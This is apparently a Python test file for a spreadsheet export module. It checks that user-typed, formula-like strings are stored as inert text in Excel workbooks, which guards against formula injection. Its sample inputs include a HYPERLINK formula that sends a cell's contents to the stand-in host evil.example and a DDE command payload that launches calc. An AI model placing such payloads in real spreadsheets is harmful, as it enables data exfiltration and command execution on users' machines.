"""core.spreadsheets: text someone typed never becomes a live formula in an exported workbook."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from lianfang.core.spreadsheets import formula_like, save_as_text, text_cell

TYPED = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-2+3", "@SUM(1+1)"]


def test_formula_like():
    assert [formula_like(v) for v in [*TYPED, "张三", "", 3, None, "1=1"]] == [True] * 4 + [False] * 5


def test_save_as_text_writes_every_typed_formula_as_text():
    wb = Workbook()
    wb.active.append(TYPED)
    wb.create_sheet("two").append(["=cmd|' /C calc'!A0", 5])
    buffer = io.BytesIO()
    save_as_text(wb, buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue()))
    first = [(c.value, c.data_type) for c in back.active[1]]
    assert first == [(v, "s") for v in TYPED]
    assert [(c.value, c.data_type) for c in back["two"][1]] == [("=cmd|' /C calc'!A0", "s"), (5, "n")]


def test_text_cell_in_a_write_only_sheet():
    wb = Workbook(write_only=True)
    ws = wb.create_sheet()
    ws.append([text_cell(ws, "=1+2", number_format="@"), text_cell(ws, "plain"), 7])
    buffer = io.BytesIO()
    wb.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in row] == [("=1+2", "s"), ("plain", "s"), (7, "n")]
    assert row[0].number_format == "@"
